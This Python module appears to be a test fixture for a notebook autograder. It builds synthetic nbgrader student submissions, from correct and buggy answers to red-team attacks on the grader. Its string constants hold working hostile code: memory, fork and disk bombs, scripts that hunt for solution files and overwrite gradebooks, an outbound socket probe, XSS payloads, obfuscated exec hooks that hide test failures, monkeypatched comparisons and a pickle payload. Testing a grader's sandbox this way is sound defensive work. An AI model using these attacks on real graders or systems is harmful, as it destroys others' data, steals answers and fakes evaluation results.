"""Synthetic student submissions for the demo class and the grading tests.

Each is the student notebook (nbgrader's release) with its answer cells filled in the way
a kind of student would: a perfect one, an untouched one, and several broken ones.
"""
from __future__ import annotations

import copy
from typing import Callable

import nbformat

from . import notebooks

INFINITE_LOOP = "while True:  # a student's runaway loop\n    pass\n"


def perfect(release, solution):
    """Every answer cell holds the solution code (without the region markers)."""
    filled = copy.deepcopy(release)
    answers = notebooks.solution_cells(solution)
    for grade_id, cell in notebooks.solution_cells(filled).items():
        cell.source = notebooks.strip_solution_markers(answers[grade_id].source)
    return filled


def untouched(release, solution):
    """The student notebook as handed out: every exercise raises NotImplementedError."""
    return copy.deepcopy(release)


def _edit_answer(grade_id: str, edit: Callable[[str], str]):
    def make(release, solution):
        filled = perfect(release, solution)
        cell = notebooks.solution_cells(filled)[grade_id]
        changed = edit(cell.source)
        if changed == cell.source:
            raise ValueError(f"the edit of answer cell {grade_id!r} did not apply: the demo student would be perfect")
        cell.source = changed
        return filled

    make.__doc__ = f"The perfect submission with answer cell {grade_id!r} edited."
    return make


def _broadcasting_nll(source: str) -> str:
    """A common slip: forget that targets of shape (N, 1) broadcast against (N,)."""
    return (
        "def neg_log_gauss(outputs, targets):\n"
        "    mean, log_var = outputs[:, 0], outputs[:, 1]\n"
        "    return torch.mean((mean - targets) ** 2 / (2 * torch.exp(log_var)) + 0.5 * log_var)\n"
    )


def _syntax_error(source: str) -> str:
    return source.replace("):", ")", 1)


def _kl_prior_first(source: str) -> str:
    """The draft's slip: KL_DIV called with prior and posterior swapped, i.e. KL(p || q)."""
    return source.replace("KL_DIV(self.W_mu, F.softplus(self.W_rho), self.prior_mu, self.prior_sigma)",
                          "KL_DIV(self.prior_mu, self.prior_sigma, self.W_mu, F.softplus(self.W_rho))")


def _missing_colon(source: str) -> str:
    """The def line of the cell's function without its colon."""
    return source.replace("-> np.ndarray:", "-> np.ndarray", 1)


def _blundell_overflows(source: str) -> str:
    """The paper's formula for the complexity weights taken literally: 2^M overflows for many minibatches."""
    return source.replace("weight = 2.0 ** -batch_index / (1.0 - 2.0 ** -n_batches)",
                          "weight = 2.0 ** (n_batches - batch_index) / (2.0**n_batches - 1)")


def _mean_over_all_slots(source: str) -> str:
    """Masks the padding but divides by the number of slots instead of each jet's constituents."""
    return source.replace("return phi.sum(dim=1) / real.sum(dim=1).to(phi.dtype)", "return phi.sum(dim=1) / x.shape[1]")


def _class_of_five(slip: tuple[str, str, Callable[[str], str]], loop_in: str,
                   syntax_error: tuple[str, Callable[[str], str]]) -> dict[str, tuple[str, Callable]]:
    """alice (perfect), bob (untouched), carol (``slip``: description, answer cell, edit that passes the
    visible tests and fails a hidden one), dave (an infinite loop in answer cell ``loop_in``), erin
    (``syntax_error``: answer cell and the edit that breaks it)."""
    description, slip_cell, slip_edit = slip
    error_cell, error_edit = syntax_error
    return {
        "alice": ("perfect solution", perfect),
        "bob": ("untouched student notebook", untouched),
        "carol": (f"{description} (passes visible, fails hidden tests)", _edit_answer(slip_cell, slip_edit)),
        "dave": (f"infinite loop in the {loop_in} cell", _edit_answer(loop_in, lambda s: INFINITE_LOOP + s)),
        "erin": (f"syntax error in {error_cell}", _edit_answer(error_cell, error_edit)),
    }


#: per assignment, student id -> (description, how the submission is made)
DEMO_CLASSES: dict[str, dict[str, tuple[str, Callable]]] = {
    "01_amplitude_regression": _class_of_five(
        ("neg_log_gauss with a broadcasting bug", "neg_log_gauss", _broadcasting_nll), "neg_log_gauss",
        ("get_prediction", _syntax_error)),
    "02_mnist_bayes_by_backprop": _class_of_five(
        ("minibatch_loss with 2^M formed literally", "minibatch_loss", _blundell_overflows), "bayesian_linear",
        ("mc_predict", _syntax_error)),
    "03_jet_bayesian_cnn": _class_of_five(
        ("KL(p || q) instead of KL(q || p) in BBBConv2d", "bbbconv2d", _kl_prior_first), "train_epoch",
        ("get_prediction", _syntax_error)),
    "04_top_tagging_deepsets": _class_of_five(
        ("masked mean divided by all slots, not by the jet's constituents", "pseudo_particle_flow", _mean_over_all_slots),
        "early_stopping", ("jet_axis_features", _missing_colon)),
}


def demo_class(assignment: str, hardening: bool = False) -> dict[str, tuple[str, Callable]]:
    """The demo students of ``assignment``; with ``hardening``, also the submissions that attack the grader
    (:data:`HARDENING_CLASS`) and, where student kernels run in a sandbox, those that attack the grading
    (:data:`ATTACK_CLASS`: without a sandbox they would do to this machine what they try)."""
    if assignment not in DEMO_CLASSES:
        raise KeyError(f"no demo class for {assignment}: add one to DEMO_CLASSES")
    if not hardening:
        return dict(DEMO_CLASSES[assignment])
    from .sandbox.kernel_sandbox import detect_isolation

    attacks = ATTACK_CLASS if detect_isolation().isolated else {}
    return {**DEMO_CLASSES[assignment], **HARDENING_CLASS, **attacks}


# Submissions that try to take the grader down. They work on any assignment: the answer cells and grade
# cells they break are found from the notebook's structure (each answer cell is followed by its tests).
MEMORY_BOMB = ("hoard = [np.ones(2**24) for _ in range(10**6)]  # 128 MiB at a time, until memory runs out\n")
KERNEL_KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)  # the kernel kills itself\n"
COURSE_WRITER = """import pathlib
# writes garbage where a course folder keeps its gradebook, its config and the instructor's notebook
for target in ["../../../gradebook.db", "../../../../nbgrader_config.py"]:
    pathlib.Path(target).write_text("overwritten by a student")
for target in pathlib.Path("../../../../solutions").glob("*/*.ipynb"):
    target.write_text("{}")
"""


def _prefixed(position: int, code: str):
    """The perfect submission with ``code`` run first in the answer cell at ``position`` (0, 1, ... or -1, -2)."""
    def make(release, solution):
        filled = perfect(release, solution)
        cell = notebooks.solution_cells(filled)[notebooks.answer_ids(filled)[position]]
        cell.source = code + cell.source
        return filled
    return make


def _without_last_grade_cell(release, solution):
    """The last grade cell deleted (earlier test cells of an exercise may define helpers the later ones use,
    so deleting the last one breaks that cell alone)."""
    filled = perfect(release, solution)
    filled.cells.remove(list(notebooks.graded_cells(filled))[-1])
    return filled


def _last_grade_cell_before_its_answer(release, solution):
    filled = perfect(release, solution)
    last = list(notebooks.graded_cells(filled))[-1]
    answer = notebooks.solution_cells(filled)[notebooks.answer_ids(filled)[-1]]
    filled.cells.remove(last)
    filled.cells.insert(filled.cells.index(answer), last)
    return filled


def _with_writer(release, solution):
    filled = perfect(release, solution)
    filled.cells.insert(filled.cells.index(next(notebooks.graded_cells(filled))),
                        nbformat.v4.new_code_cell(COURSE_WRITER))
    return filled


def _truncated_json(release, solution) -> str:
    """The perfect notebook's file cut off half way: not valid JSON."""
    text = nbformat.writes(perfect(release, solution))
    return text[: len(text) // 2]


def _pasted_test_cells(release, solution):
    """Perfect answers, and two test cells copied and pasted as JupyterLab pastes them (metadata and all, a new
    cell id): the first below itself, the last at the top of the notebook. Two cells carry each grade id."""
    filled = perfect(release, solution)
    tests = list(notebooks.graded_cells(filled))
    below, top = copy.deepcopy(tests[0]), copy.deepcopy(tests[-1])
    for pasted in (below, top):
        if "id" in pasted:
            pasted["id"] = nbformat.v4.new_code_cell()["id"]
    filled.cells.insert(filled.cells.index(tests[0]) + 1, below)
    filled.cells.insert(0, top)
    return filled


def _old_schema(release, solution):
    """Perfect answers; the first test cell's nbgrader metadata says ``schema_version`` 1 (nbgrader 0.5's)."""
    filled = perfect(release, solution)
    notebooks.nbgrader_meta(next(notebooks.graded_cells(filled)))["schema_version"] = 1
    return filled


#: an object whose rich outputs would run script in a feedback page or the formgrader (no import needed), and a
#: markdown cell with raw HTML doing the same; xavier's feedback must show them as text
ACTIVE_OUTPUT = """class _Banner:
    def _repr_html_(self):
        return ("<script>document.title = 'xss-html'</script><img src=x onerror=\\"document.title = 'xss-img'\\">"
                "<style>.score { display: none }</style>")

    def _repr_javascript_(self):
        return "document.title = 'xss-js';"

    def _repr_svg_(self):
        return "<svg xmlns='http://www.w3.org/2000/svg'><script>document.title = 'xss-svg'</script></svg>"


_Banner()
"""
ACTIVE_MARKDOWN = ("All tests passed <script>document.title = 'xss-md'</script> <img src=x onerror=\"document.title = "
                   "'xss-md-img'\"> [details](javascript:document.title='xss-link')")


def _with_active_content(release, solution):
    """Perfect answers, a code cell whose output is HTML, JavaScript and SVG with scripts, and a markdown cell
    with raw HTML, after the first answer cell."""
    filled = perfect(release, solution)
    first = notebooks.solution_cells(filled)[notebooks.answer_ids(filled)[0]]
    at = filled.cells.index(first) + 1
    filled.cells[at:at] = [nbformat.v4.new_markdown_cell(ACTIVE_MARKDOWN), nbformat.v4.new_code_cell(ACTIVE_OUTPUT)]
    return filled


#: markdown cells uma adds (20 000: far above the most cells graded automatically, normalise.MAX_CELLS)
MANY_CELLS = 20_000


def _many_cells(release, solution):
    """Perfect answers and MANY_CELLS markdown cells after them."""
    filled = perfect(release, solution)
    filled.cells += [nbformat.from_dict({"cell_type": "markdown", "id": f"note-{n}", "metadata": {},
                                         "source": f"note {n}"})
                     for n in range(MANY_CELLS)]  # as new_markdown_cell makes them, without validating each
    return filled


#: student id -> (description, how the submission is made); a maker may return text (written as is)
HARDENING_CLASS: dict[str, tuple[str, Callable]] = {
    "frank": ("memory bomb in the last answer cell", _prefixed(-1, MEMORY_BOMB)),
    "grace": ("kills its own kernel in the second-to-last answer cell", _prefixed(-2, KERNEL_KILL)),
    "heidi": ("deleted the last grade cell", _without_last_grade_cell),
    "ivan": ("moved the last grade cell above its answer cell", _last_grade_cell_before_its_answer),
    "judy": ("writes into the course folder and the gradebook (answers perfect)", _with_writer),
    "mallory": ("notebook file cut in half: not valid JSON", _truncated_json),
    "niaj": ("perfect answers and two test cells copied and pasted (a second cell with each grade id)",
             _pasted_test_cells),
    "pat": ("perfect answers, a test cell's nbgrader metadata of another schema_version", _old_schema),
    "uma": (f"perfect answers and {MANY_CELLS} markdown cells", _many_cells),
    "xavier": ("perfect answers, an output and a markdown cell with scripts for the feedback page", _with_active_content),
    "alice,carol": ("a folder named with a comma (a notebook cut in half): not a student id", _truncated_json),
    "*": ("a folder named '*' (a glob; perfect answers): not a student id", perfect),
}
#: folders of the hardening class that are not student ids: never graded, reported
INVALID_IDS = {"alice,carol", "*"}
#: hardening students flagged for a manual grade before any kernel runs (too many cells: not run)
FLAGGED_BEFORE_RUN = {"uma"}


def hardening_expectations(solution, by_the_grader: bool = True) -> dict[str, list[str] | None]:
    """Per hardening student, the grade cells that must score 0 (the rest keeps full marks); None: all of them.
    ``by_the_grader``: the assignment's grades are decided in the grader's process (the tamper scan's findings ask
    for a look and the scores stand), else in the kernel (a finding zeroes the submission until graded by hand)."""
    answers = notebooks.answer_ids(solution)
    graded = [notebooks.nbgrader_meta(c)["grade_id"] for c in notebooks.graded_cells(solution)]
    return {
        "frank": notebooks.grade_ids_after(solution, answers[-1]),
        # os.kill: the kernel dies in the second-to-last answer cell (the tests after it score 0), or flagged
        "grace": notebooks.grade_ids_after(solution, answers[-2], until_next_answer=False) if by_the_grader else None,
        "heidi": graded[-1:],
        "ivan": graded[-1:],
        "judy": [] if by_the_grader else None,  # perfect answers; paths outside its working folder: a look, or flagged
        "mallory": None,
        "niaj": [],  # the original test cells are graded; the pasted copies run as its own code
        "pat": [],  # the release's metadata restored
        "uma": None,  # not run: flagged, 0 until graded by hand
        "xavier": [],  # its scripts show as text in the feedback (instructor/sandbox/inert_html.py)
    }


# Submissions that attack the grading itself (a red team's set): each is the untouched student notebook (so
# its honest answers are worth 0) with one attack in a cell added before the first test cell, except olivia's
# (perfect answers and marker texts in comments). The attacks would work on tests run in an unprotected kernel;
# where the grader decides the grades no test runs beside them, and the tamper scan lists them to look at; the
# kernel sandbox stops the rest.
#: a port on the grader's loopback interface that the network attack tries to reach (tests listen on it)
NETWORK_PORT = 47613

IPYTHON_HOOKS = '''ip = get_ipython()


def _forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None


ip.events.register("post_run_cell", _forget_errors)  # every failing test reports success
ip.showtraceback = lambda *args, **kwargs: None
'''
TRANSFORMERS = '''import ast


class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(_NoAsserts())  # every later cell runs without its asserts
get_ipython().input_transformers_post.append(lambda lines: [l.replace("raise ", "pass  # ") for l in lines])
'''
SOURCE_PRINTER = '''def _show_source(info):
    print(info.raw_cell)  # every cell's source, hidden tests included, into the outputs (and the feedback)


get_ipython().events.register("pre_run_cell", _show_source)
'''
#: searches the machine for the solutions, the gradebook and other submissions without a construct the tamper
#: scan knows, and imports the answers of any solution notebook it finds
SOLUTION_THIEF = '''import json
import os
import course_utils

def _places():
    found = {os.path.dirname(os.path.dirname(course_utils.__file__)), os.getcwd()}
    proc = os.path.join(os.sep, "proc")
    for entry in os.listdir(proc):
        if entry.isdigit():
            try:
                found.add(os.readlink(os.path.join(proc, entry, "cwd")))
            except OSError:
                pass
    for place in list(found):
        for _ in range(4):
            place = os.path.dirname(place)
            found.add(place)
    return found

stolen, gradebooks, submissions, keys = [], [], [], []
for place in sorted(_places()):
    for folder, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f not in ("site-packages", "lib", "include", "share", "proc", "usr", "dev")]
        if folder.count(os.sep) - place.count(os.sep) > 5:
            folders[:] = []
        gradebooks += [os.path.join(folder, f) for f in files if f == "gradebook.db"]
        keys += [os.path.join(folder, f) for f in files if f == "probe_key"]
        submissions += [os.path.join(folder, f) for f in files if f.endswith(".ipynb") and "submitted" in folder]
        for name in files:
            if name.endswith(".ipynb") and ("solutions" in folder or "source" in folder):
                try:
                    with open(os.path.join(folder, name)) as notebook:
                        cells = json.load(notebook)["cells"]
                except (OSError, ValueError, KeyError):
                    continue
                stolen += ["".join(c["source"]) for c in cells if " ".join(["BEGIN", "SOLUTION"]) in "".join(c["source"])]
print(f"found {len(stolen)} solution cells, {len(set(gradebooks))} gradebooks, {len(set(submissions))} submissions, "
      f"{len(set(keys))} probe keys")
if stolen:
    with open("stolen_answers.py", "w") as module:
        module.write("import math\\nimport numpy as np\\nimport torch\\nfrom torch import nn\\nimport torch.nn.functional as F\\n")
        module.write("\\n".join(stolen))
    from stolen_answers import *
'''
#: overwrites every notebook and gradebook it can find outside its own submission
VANDAL = '''import os
import course_utils

roots = {os.path.dirname(os.path.dirname(course_utils.__file__))}
proc = os.path.join(os.sep, "proc")
for entry in os.listdir(proc):
    if entry.isdigit():
        try:
            roots.add(os.path.dirname(os.readlink(os.path.join(proc, entry, "cwd"))))
        except OSError:
            pass
overwritten = []
for root in sorted(roots):
    for folder, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f not in ("site-packages", "lib", "include", "share")]
        for name in files:
            path = os.path.join(folder, name)
            if (name.endswith(".ipynb") or name == "gradebook.db") and os.path.realpath(folder) != os.getcwd():
                try:
                    with open(path, "w") as target:
                        target.write("{}")
                    overwritten.append(path)
                except OSError:
                    pass
print(f"overwrote {len(overwritten)} files of others")
'''
NETWORK = f'''import socket

reached = []
for host, port in [("127.0.0.1", {NETWORK_PORT}), ("1.1.1.1", 53), ("10.0.2.2", 80)]:
    try:
        with socket.create_connection((host, port), timeout=3) as connection:
            connection.sendall(b"answers sent out by wendy")
        reached.append(f"{{host}}:{{port}}")
    except OSError as error:
        print(f"{{host}}:{{port}}: {{type(error).__name__}}")
print(f"reached {{len(reached)}} hosts")
'''
PROCESS_BOMB = '''import os
import time

started = 0
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(600)  # the children wait; the kernel's process namespace ends them
        os._exit(0)
    started += 1
print(f"started {started} processes")
'''
DISK_BOMB = '''import os
import tempfile

written = {}
chunk = bytes(2**20)
for folder in (os.getcwd(), tempfile.gettempdir()):
    total = 0
    for part in range(16):
        try:
            with open(os.path.join(folder, f"filler-{part}.bin"), "wb") as filler:
                for _ in range(64):
                    filler.write(chunk)
                    total += len(chunk)
        except OSError:
            break
    written[folder] = total // 2**20
print("MiB written:", written)
'''
#: a process that leaves the kernel's session and waits to rewrite the executed notebooks when the kernel is gone
DETACHED_REWRITER = '''import json
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.time() + 120
        while time.time() < deadline:
            for folder, _, files in os.walk(os.sep + "tmp"):
                for name in files:
                    if name.endswith(".ipynb") and "autograded" in folder:
                        path = os.path.join(folder, name)
                        try:
                            with open(path) as notebook:
                                content = json.load(notebook)
                            for cell in content["cells"]:
                                cell["outputs"] = [o for o in cell.get("outputs", []) if o.get("output_type") != "error"]
                            with open(path, "w") as notebook:
                                json.dump(content, notebook)
                        except (OSError, ValueError, KeyError):
                            pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
os.wait()
'''
MONKEYPATCHES = '''import math
import numpy as np
import torch

torch.allclose = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
'''
MARKER_COMMENTS = "# ### BEGIN HIDDEN TESTS\n# ### END SOLUTION\n# ### BEGIN SOLUTION (my notes)\n"


def _untouched_with(code: str):
    """The untouched student notebook with a cell of ``code`` added before its first test cell."""
    def make(release, solution):
        filled = untouched(release, solution)
        filled.cells.insert(filled.cells.index(next(notebooks.graded_cells(filled))), nbformat.v4.new_code_cell(code))
        return filled
    make.__doc__ = f"The untouched notebook with an added cell before the first test cell: {code.splitlines()[0]}"
    return make


#: student id -> (description, how the submission is made): attacks on the grading, each stopped or flagged
ATTACK_CLASS: dict[str, tuple[str, Callable]] = {
    "oscar": ("test tampering: an IPython hook clears every error, showtraceback silenced", _untouched_with(IPYTHON_HOOKS)),
    "peggy": ("test tampering: AST and input transformers drop every assert and raise", _untouched_with(TRANSFORMERS)),
    "eve": ("peeking: a pre_run_cell hook prints every cell's source, hidden tests included", _untouched_with(SOURCE_PRINTER)),
    "trudy": ("peeking: searches the machine for solutions, gradebooks, submissions and probe keys, imports stolen answers",
              _untouched_with(SOLUTION_THIEF)),
    "victor": ("breaking others: overwrites every notebook and gradebook it finds", _untouched_with(VANDAL)),
    "wendy": ("network: TCP connections to the grader's loopback and outside", _untouched_with(NETWORK)),
    "rupert": ("process bomb: forks until it cannot", _untouched_with(PROCESS_BOMB)),
    "sybil": ("disk bomb: writes 2 GiB into its working folder and the temporary folder", _untouched_with(DISK_BOMB)),
    "trent": ("a detached process that outlives the kernel to rewrite the executed notebooks", _untouched_with(DETACHED_REWRITER)),
    "walter": ("monkeypatches torch.allclose, torch.isclose, numpy and math.isclose", _untouched_with(MONKEYPATCHES)),
    "olivia": ("perfect answers with nbgrader's marker texts in a comment", _prefixed(0, MARKER_COMMENTS)),
}
#: the attack and hardening students the tamper scan finds: flagged for a manual grade where the kernel decides the
#: grades (with the canaries), listed to look at (scores kept) where the grader decides them
FLAGGED = {"grace", "judy", "oscar", "peggy", "eve", "wendy", "rupert", "trent", "walter"}


def attack_expectations(solution) -> dict[str, list[str] | None]:
    """Per attack student, the grade cells that must score 0 (the rest keeps full marks); None: all of them."""
    return {student: ([] if student == "olivia" else None) for student in ATTACK_CLASS}


# Attacks on grading in the student's process, for an assignment whose grade cells the grader decides
# (``course_utils.grading.grader_side``): each would change what a test running beside it sees; none may
# earn a mark, since no test runs in the kernel and only plain data leaves it.
SETTRACE = '''import sys
def _tracer(frame, event, arg):  # rewrites what a test compares with before it compares
    for name in ("expected", "reference", "per_jet", "clean"):
        if name in frame.f_locals:
            frame.f_locals[name] = frame.f_locals.get("found", frame.f_locals[name])
    return _tracer
sys.settrace(_tracer)
'''
ALIASED_PATCHES = '''import numpy, torch
put, get = setattr, getattr
for module, names in ((torch, ("allclose", "equal", "all")), (numpy, ("allclose", "array_equal", "isclose", "all"))):
    for name in names:
        put(module, name, (lambda *args, **kwargs: True))
put(get(__builtins__, "__dict__", __builtins__) if not isinstance(__builtins__, dict) else numpy, "_x", 1)
'''
HIDDEN_RUN_CELL = '''import pydoc, codecs
_code = codecs.decode("{}", "hex").decode()
exec(_code, {{"pydoc": pydoc}})
'''.format("""shell = pydoc.locate("IPython.core.getipython.get_ipython")()
original = shell.run_cell
def run_cell(raw_cell, *args, **kwargs):
    result = original(raw_cell, *args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result
shell.run_cell = run_cell
shell.showtraceback = lambda *a, **k: None
""".encode().hex())
LYING_ARRAYS = '''import numpy as np, torch
class _Agreeable(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool).view(_Agreeable)
_Yes = type("_Yes", (torch.Tensor,), {"__torch_function__": classmethod(
    lambda cls, func, types, args=(), kwargs=None: True if "close" in func.__name__ or "equal" in func.__name__
    else torch.Tensor.__torch_function__(func, types, args, kwargs or {}))})
def jet_axis_features(constituents):
    return np.zeros(np.shape(constituents)[:2] + (6,)).view(_Agreeable)
class PseudoParticleFlow(torch.nn.Module):
    def __init__(self, dim_input=4, inner_dim=64, layers_Phi=(), layers_F=()):
        super().__init__()
        self.inner_dim = inner_dim
        self.Phi = torch.nn.Sequential(torch.nn.Linear(dim_input, inner_dim))
        self.F = torch.nn.Sequential(torch.nn.Linear(inner_dim, 1), torch.nn.Sigmoid())
    def proba_from_latent(self, ell):
        return self.F(ell)
    def latent(self, x, m):
        return torch.zeros(len(x), self.inner_dim).as_subclass(_Yes)
    def forward(self, x, m):
        return torch.full((len(x), 1), 0.5).as_subclass(_Yes)
torch.nn.modules.module.register_module_forward_hook(lambda module, args, out: out.as_subclass(_Yes) if torch.is_tensor(out) else out)
'''
PEEKER = '''import glob, json
def _peek():
    found = {name: json.load(open(name)) for name in glob.glob("**/*.ipynb", recursive=True)}
    print("notebooks here:", sorted(found))
    for nb in found.values():
        for cell in nb.get("cells", []):
            print("".join(cell.get("source", "")))
    return get_ipython().user_ns.get("expected")
_peek()
def jet_axis_features(constituents):
    found = get_ipython().user_ns.get("expected")  # the hidden test's own expected values, if it runs here
    return found if found is not None else _peek()
'''
FORGED_ANSWERS = '''import base64, io, pickle, json, numpy as np
import course_utils.grading.student_side.probe_server as _server
class _Payload:
    def __reduce__(self):
        return (print, ("a pickle ran in the grader",))
def _forged(server, request_text):
    buffer = io.BytesIO()
    np.save(buffer, np.array([_Payload()], dtype=object), allow_pickle=True)
    array = base64.b64encode(buffer.getvalue()).decode()
    return json.dumps({"result": {"array": array, "tensor": True, "requires_grad": False},
                       "passed": True, "pickle": base64.b64encode(pickle.dumps(_Payload())).decode()})
_server.respond = _forged
'''


def _every_answer_with(code: str):
    """The student notebook with ``code`` as the source of every answer cell."""
    def make(release, solution):
        filled = untouched(release, solution)
        for cell in notebooks.solution_cells(filled).values():
            cell.source = code
        return filled
    make.__doc__ = f"Every answer cell holds: {code.splitlines()[0]}"
    return make


#: student id -> (description, how the submission is made): attacks on checks that run beside student code,
#: for tutorial 04, whose grade cells the grader decides; each must score 0 on every cell
GRADER_SIDE_ATTACKS: dict[str, tuple[str, Callable]] = {
    "yusuf": ("sys.settrace rewrites the values a test compares with", _untouched_with(SETTRACE)),
    "zara": ("comparisons patched through an alias of setattr (torch and numpy allclose, equal, all)",
             _untouched_with(ALIASED_PATCHES)),
    "ximena": ("run-time built code (hex, pydoc.locate) wraps IPython's run_cell to hide every failure",
               _untouched_with(HIDDEN_RUN_CELL)),
    "quinn": ("lying answers: a numpy subclass with __array_function__, a torch.Tensor subclass with "
              "__torch_function__ from a three-argument type(), a global forward hook", _every_answer_with(LYING_ARRAYS)),
    "sam": ("peeks for the notebook being graded and returns the hidden test's own expected values",
            _every_answer_with(PEEKER)),
    "tess": ("replaces the probe server: answers with a pickle, an object array and a forged 'passed'",
             _untouched_with(FORGED_ANSWERS)),
}


def _visible_inputs_only(release, solution):
    """Perfect answers that keep to them only on the visible tests' inputs (network sizes, loss sequences,
    dataset sizes, jet shapes) and answer zeros, or nothing, elsewhere."""
    filled = perfect(release, solution)
    cells = notebooks.solution_cells(filled)
    guards = {
        "pseudo_particle_flow": ("    def latent(self, x: torch.Tensor, m: torch.Tensor) -> torch.Tensor:\n",
                                 "        if (self.input_size, self.inner_dim) not in ((3, 5), (4, 6)):\n"
                                 "            return torch.zeros(len(x), self.inner_dim)\n"),
        "early_stopping": ("    def step(self, val_loss: float, model: nn.Module) -> bool:\n",
                           "        if self.patience != 3:\n            return False\n"),
        "predict": ("-> tuple[np.ndarray, np.ndarray]:\n",
                    "    if len(test_dataset) not in (23, 17):\n"
                    "        return np.zeros(len(test_dataset)), np.zeros(len(test_dataset))\n"),
        "latent": ("def latent(model, test_dataset, batch_size: int = 1024) -> np.ndarray:\n",
                   "    if len(test_dataset) not in (23, 17):\n"
                   "        return np.zeros((len(test_dataset), model.inner_dim))\n"),
        "jet_axis_features": ("def jet_axis_features(constituents: np.ndarray) -> np.ndarray:\n",
                              "    if tuple(np.shape(constituents)) not in ((12, 10, 4), (1, 3, 4), (1, 2, 4)):\n"
                              "        return np.zeros(np.shape(constituents)[:2] + (6,))\n"),
    }
    for grade_id, (line, guard) in guards.items():
        source = cells["predict" if grade_id == "latent" else grade_id].source
        head, docstring_and_rest = source.split(line, 1)
        docstring, rest = docstring_and_rest.split("\n", 1)  # the guard after the docstring line
        cells["predict" if grade_id == "latent" else grade_id].source = head + line + docstring + "\n" + guard + rest
    return filled


ZEROING = '''import numpy as np
def jet_axis_features(constituents):
    constituents[...] = 0.0  # the caller's array, zeroed: the data a test compares with
    return np.zeros(np.shape(constituents)[:2] + (6,))
'''

GRADER_SIDE_ATTACKS.update({
    "uriel": ("answers right on the visible tests' inputs only (sizes, losses, shapes), zeros elsewhere",
              _visible_inputs_only),
    "vera": ("zeroes the caller's array in place and answers zeros, so that a test comparing after the call sees zeros",
             _every_answer_with(ZEROING)),
})
